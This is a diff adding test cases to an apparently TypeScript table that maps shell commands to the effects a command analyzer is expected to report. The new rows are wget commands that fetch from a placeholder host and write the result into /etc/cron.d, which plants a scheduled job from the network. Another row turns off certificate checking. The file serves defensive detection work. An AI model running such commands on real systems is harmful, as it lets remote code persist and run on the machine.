@@ -36,6 +36,14 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
     ],
   ],
   [
+    "wget -e 'output_document = /etc/cron.d/x' h.example/y",
+    ['network:fetch h.example external', 'write:overwrite /etc/cron.d/x'],
+  ],
+  [
+    'wget -P /tmp -e dir-prefix=/etc/cron.d h.example/y',
+    ['network:fetch h.example external', 'write:overwrite /etc/cron.d/y'],
+  ],
+  [
     'wget --no-check-certificate https://h.example/a',
     ['network:fetch h.example external', 'crypto:weaken h.example', 'write:overwrite a'],
   ],
